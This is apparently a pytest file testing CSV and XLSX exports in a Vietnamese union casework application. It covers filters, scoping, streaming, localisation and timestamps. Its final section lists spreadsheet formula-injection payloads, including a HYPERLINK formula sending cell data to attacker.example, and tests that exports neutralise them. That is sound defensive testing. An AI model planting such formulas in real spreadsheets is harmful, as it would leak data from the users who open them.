"""Exports: the case list (with its filters), the pipeline and the targets, as CSV with a BOM
and as XLSX, read back."""
from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from casework.extensions import db
from casework.services import exports
from casework.services.pipeline import pipeline
from casework.services.targets import set_target, target_progress
from tests.helpers import new_user
from tests.test_pipeline import YEAR, add_case, build_country, filters, login, unit


def read_csv(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode("utf-8"))          # the BOM Excel needs
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def read_xlsx(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    sheet = workbook.worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_case_list_csv_keeps_the_filters_and_vietnamese(client):
    build_country()
    add_case("LDLD-79", "79", "identified", name="Công ty Cổ phần Điện tử Đồng Nai")
    login(client, new_user("leader", "VGCL"))
    response = client.get("/leadership/exports/cases.csv?province=79&state=identified")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0][:3] == ["Reference", "Kind", "State"]
    assert len(rows) == 1 + 2
    assert {r[3] for r in rows[1:]} == {"Hồ Chí Minh"}
    assert "Công ty Cổ phần Điện tử Đồng Nai" in {r[6] for r in rows[1:]}
    assert {r[2] for r in rows[1:]} == {"Target identified"}


def test_case_list_export_uses_the_dashboard_filters_and_scope(client):
    build_country()
    login(client, new_user("organiser", "LDLD-01"))
    rows = read_csv(client.get("/leadership/exports/cases.csv"))
    assert len(rows) == 1 + 3                    # F, G, H: Hà Nội's own cases only
    rows = read_csv(client.get("/leadership/exports/cases.csv?open=1&flow=grassroots"))
    assert len(rows) == 1 + 2
    login(client, new_user("leader", "VGCL"))
    overdue = read_csv(client.get("/leadership/exports/cases.csv?overdue=1"))
    assert len(overdue) == 2 and overdue[1][1] == "Grassroots union at one enterprise"
    founded = read_csv(client.get(f"/leadership/exports/cases.csv?state=founded&year={YEAR}"))
    assert [r[11] for r in founded[1:]] == ["25"]


def test_case_list_is_streamed_in_batches(client, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 2)
    for i in range(5):
        add_case("LDLD-79", "79", "outreach")
    login(client, new_user("leader", "VGCL"))
    response = client.get("/leadership/exports/cases.csv")
    assert response.is_streamed
    chunks = [c if isinstance(c, bytes) else c.encode() for c in response.response]
    assert len(chunks) >= 3                       # header + 2 rows, 2 rows, the last row
    text = b"".join(chunks).decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(text)))) == 1 + 5


def test_case_list_xlsx(client):
    build_country()
    login(client, new_user("leader", "VGCL"))
    response = client.get("/leadership/exports/cases.xlsx?province=01")
    assert response.status_code == 200
    assert response.mimetype == exports.XLSX_MIME
    rows = read_xlsx(response)
    assert rows[0][0] == "Reference"
    assert len(rows) == 1 + 4                    # F, G, H and the VGCL's own K
    assert {r[3] for r in rows[1:]} == {"Hà Nội"}
    assert all(isinstance(r[10], int) for r in rows[1:])     # numbers stay numbers


def test_headers_follow_the_users_language(client):
    login(client, new_user("leader", "VGCL"))
    client.set_cookie("lang", "vi")
    vi = read_csv(client.get("/leadership/exports/targets.csv"))[0]
    client.set_cookie("lang", "en")
    en = read_csv(client.get("/leadership/exports/targets.csv"))[0]
    assert en[0] == "Unit code" and len(vi) == len(en)
    # with a Vietnamese catalogue compiled the headers differ; without one gettext falls back
    # to the English message ids, which is what an uncompiled checkout shows


def test_pipeline_exports_equal_the_service(client):
    build_country()
    leader = new_user("leader", "VGCL")
    login(client, leader)
    expected = pipeline(leader, filters(by="province", year=YEAR))
    rows = read_csv(client.get(f"/leadership/exports/pipeline.csv?by=province&year={YEAR}"))
    assert len(rows) == 1 + len(expected.rows) + 1
    by_key = {r[0]: r for r in rows[1:]}
    states = list(expected.states)
    hcm = by_key["79"]
    assert int(hcm[2 + states.index("identified")]) == 1
    # then the two membership columns (tests/test_membership_parity.py)
    assert [int(v) for v in hcm[2 + len(states):-2]] == [3, 120, 25, 1, 1, 1]
    total = rows[-1]
    assert total[1] == "Total" and int(total[2 + len(states)]) == expected.totals.open

    sheet = read_xlsx(client.get(f"/leadership/exports/pipeline.xlsx?by=sector&year={YEAR}"))
    by_sector = pipeline(leader, filters(by="sector", year=YEAR))
    assert sheet[-1][2 + len(states)] == by_sector.totals.open
    assert [r[0] for r in sheet[1:-1]] == [r.key for r in by_sector.rows]


def test_target_exports_equal_the_service(client):
    admin = new_user("admin", "VGCL")
    set_target(admin, unit="LDLD-79", year=YEAR, new_members=100)
    db.session.commit()
    add_case("LDLD-79", "79", "founded", founded_members=30, founded_on=date(YEAR, 1, 2))
    login(client, admin)
    table = target_progress(admin, YEAR)
    rows = read_csv(client.get(f"/leadership/exports/targets.csv?year={YEAR}"))
    assert len(rows) == 1 + len(table.rows)
    hcm = next(r for r in rows if r[0] == "LDLD-79")
    assert hcm[3] == "100" and hcm[7] == "30" and hcm[9] == "0.3"
    sheet = read_xlsx(client.get(f"/leadership/exports/targets.xlsx?year={YEAR}"))
    hcm = next(r for r in sheet if r[0] == "LDLD-79")
    assert hcm[1] == "Liên đoàn Lao động Hồ Chí Minh" and hcm[3] == 100 and hcm[7] == 30


def test_exports_need_login_and_a_known_format(client):
    assert client.get("/leadership/exports/cases.csv").status_code == 302
    login(client, new_user("leader", "VGCL"))
    assert client.get("/leadership/exports/cases.pdf").status_code == 404


# --- formulas: text a spreadsheet would run is neutralised in every export (casework/spreadsheet)

FORMULAS = ('=HYPERLINK("http://attacker.example/?"&A1,"Xem")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")


def xlsx_cells(response) -> list[list]:
    """The cells themselves (not only their values): a formula has data_type "f"."""
    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def test_case_exports_neutralise_text_that_would_run_as_a_formula(client):
    for name in FORMULAS:
        add_case("LDLD-79", "79", "identified", name=name)
    login(client, new_user("leader", "VGCL"))
    names = {r[6] for r in read_csv(client.get("/leadership/exports/cases.csv"))[1:]}
    assert names == {"'" + name for name in FORMULAS}

    cells = {row[6].value: row[6] for row in xlsx_cells(
        client.get("/leadership/exports/cases.xlsx"))[1:]}
    # the text itself, typed as a string; a carriage return comes back as itself where openpyxl
    # writes through lxml (it escapes it as _x000D_) and as a line feed where it does not
    assert ({text.replace("\r", "\n") for text in cells}
            == {name.replace("\r", "\n") for name in FORMULAS})
    assert {(c.data_type, c.quotePrefix) for c in cells.values()} == {("s", True)}


def test_pipeline_and_target_exports_neutralise_unit_names(client):
    hcm = unit("LDLD-79")
    hcm.name = "=1+1"
    add_case("LDLD-79", "79", "founded", founded_members=30, founded_on=date(YEAR, 1, 2))
    db.session.commit()
    login(client, new_user("admin", "VGCL"))
    rows = read_csv(client.get(f"/leadership/exports/pipeline.csv?by=unit&year={YEAR}"))
    assert "'=1+1" in {r[1] for r in rows}
    assert "=1+1" not in {r[1] for r in rows}
    rows = read_csv(client.get(f"/leadership/exports/targets.csv?year={YEAR}"))
    assert next(r for r in rows if r[0] == "LDLD-79")[1] == "'=1+1"

    for url in (f"/leadership/exports/pipeline.xlsx?by=unit&year={YEAR}",
                f"/leadership/exports/targets.xlsx?year={YEAR}"):
        cell = next(r[1] for r in xlsx_cells(client.get(url)) if r[1].value == "=1+1")
        assert cell.data_type == "s", url
    founded = next(r for r in xlsx_cells(client.get(f"/leadership/exports/targets.xlsx?year={YEAR}"))
                   if r[0].value == "LDLD-79")[7]
    assert (founded.value, founded.data_type) == (30, "n")     # numbers stay numbers


def test_the_neutralising_apostrophe_is_undone_exactly_on_reading_back():
    from casework.spreadsheet import csv_text, csv_value
    for text in FORMULAS + ("'=1", "''+2", "'plain", "plain", "", "a=1", "5"):
        assert csv_value(csv_text(text)) == text
    assert csv_text("'=1") == "''=1" and csv_text("'plain") == "'plain"
    assert csv_text(-5) == -5 and csv_text(None) is None

def test_the_case_list_writes_labels_and_vietnam_time(client):
    from datetime import datetime, timezone
    build_country()
    case = add_case("LDLD-79", "79", "identified", ownership="fdi", sector="footwear",
                    name="Công ty Giày Bình Dương")
    case.updated_at = case.state_changed_at = datetime(2025, 3, 31, 18, 30, tzinfo=timezone.utc)
    db.session.commit()
    login(client, new_user("leader", "VGCL"))
    for rows in (read_csv(client.get("/leadership/exports/cases.csv?province=79")),
                 read_xlsx(client.get("/leadership/exports/cases.xlsx?province=79"))):
        header, row = rows[0], next(r for r in rows[1:] if r[0] == case.ref)
        assert header[-2:] == ["In this state since (Vietnam time, UTC+7)",
                               "Last activity (Vietnam time, UTC+7)"]
        assert row[8:10] == ["Footwear", "Foreign-invested (FDI)"]    # labels, not codes
        assert str(row[-1]).startswith("2025-04-01 01:30")            # 18:30 UTC, the next day


def test_the_pipeline_export_heads_founded_as_the_flow_counted_names_it(client):
    login(client, new_user("leader", "VGCL"))
    grassroots = read_csv(client.get(f"/leadership/exports/pipeline.csv?year={YEAR}"))[0]
    pilot = read_csv(client.get(
        f"/leadership/exports/pipeline.csv?year={YEAR}&flow=conglomerate_pilot"))[0]
    assert "Founded and announced" in grassroots
    assert "Founded, member unions transferred" not in grassroots
    assert "Founded, member unions transferred" in pilot
